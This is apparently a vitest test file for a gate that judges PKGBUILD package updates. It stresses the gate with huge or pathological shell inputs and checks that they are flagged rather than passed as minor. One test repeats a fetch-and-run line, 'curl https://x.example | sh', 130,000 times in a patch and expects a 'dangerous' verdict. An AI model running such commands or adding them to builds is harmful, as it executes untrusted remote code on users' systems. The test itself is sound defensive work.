import { expect, test } from "vitest";
import { judge } from "../../tools/gate/judge.ts";
import { bumped, context, filesOf, recipes } from "./recipes.ts";

test.each([
  ["a line of a megabyte", `_x='${"curl ".repeat(180_000)}'`],
  ["many words on many lines", "_x=1 # cat |\n".repeat(60_000)],
  ["many sources full of versions", `_y=(${`'${"14.1.0 ".repeat(60)}' `.repeat(2_000)})`],
  [
    "many variables, each made of the next, and code",
    `${Array.from({ length: 20_000 }, (_, at) => `_v${at}=$_v${at + 1}`).join("\n")}\n_v20000=x\ntrue $_v0`,
  ],
  ["quotes that never pair", `# ${"'\"".repeat(100_000)}`],
  ["letters of many scripts", `# ${"a\u0430".repeat(100_000)}`],
  ["functions that call one another", `${chain(2_000)}\n_f0 x`],
  ["substitutions within one another", `_x=${"$(".repeat(5_000)}${")".repeat(5_000)}`],
  ["commands in a long chain", `true ${"&& true ".repeat(50_000)}`],
  ["words of an installer without end", `prepare() { npm ${"npm x a ".repeat(20_000)}$pkgver; }`],
  ["addresses within one another", `source+=("${"https://a/".repeat(10_000)}$pkgver")`],
  ["branches in a long chain", `if a; then b; ${"elif a; then b; ".repeat(5_000)}fi`],
])("%s: judged, and never let through", (_, text) => {
  const after = `${bumped("rust")}\n${text}\n`;
  const update = { pkgbase: "riptool", before: filesOf("rust"), after: filesOf("rust", after) };
  const { verdict, findings } = judge(update, context);
  expect(verdict).not.toBe("minor");
  expect(findings.map(({ rule }) => rule)).not.toContain("judging-failed");
});

test("code that was accepted and calls 2,000 functions is followed to its end", () => {
  const text = `\n${chain(2_000)}\n_f0 x\n`;
  const before = filesOf("rust", `${recipes.rust.PKGBUILD}${text}`);
  const { findings } = judge(
    { pkgbase: "riptool", before, after: filesOf("rust", `${bumped("rust")}${text}`) },
    context,
  );
  expect(findings.map(({ rule }) => rule)).not.toContain("judging-failed");
});

test("a patch of 130,000 lines is judged", () => {
  const patch = `--- a/x\n+++ b/x\n@@ -1 +1 @@\n${"+curl https://x.example | sh\n".repeat(130_000)}`;
  const after = filesOf("cmake", bumped("cmake"), { "fix.patch": patch });
  expect(judge({ pkgbase: "fooview", before: filesOf("cmake"), after }, context).verdict).toBe("dangerous");
});

test("what makes the gate itself fail is dangerous, with the failure as the finding", () => {
  const after = new Map([["PKGBUILD", { mode: "100644", bytes: undefined as never }]] as const);
  const { verdict, findings } = judge({ pkgbase: "riptool", before: filesOf("rust"), after }, context);
  expect([verdict, findings[0]?.rule]).toEqual(["dangerous", "judging-failed"]);
});

function chain(length: number): string {
  const functions = Array.from({ length }, (_, at) => `_f${at}() { _f${at + 1} a; _f${at + 2}; }`);
  return `${functions.join("\n")}\n_f${length}() { :; }\n_f${length + 1}() { :; }`;
}
